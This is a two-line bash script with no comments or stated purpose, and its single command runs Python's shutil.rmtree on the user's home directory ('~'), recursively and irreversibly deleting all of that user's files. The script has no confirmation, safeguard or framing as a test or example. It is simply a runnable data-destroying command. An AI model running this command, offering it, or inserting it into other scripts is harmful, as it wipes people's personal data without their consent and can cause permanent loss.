#!/bin/bash
python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~'))"
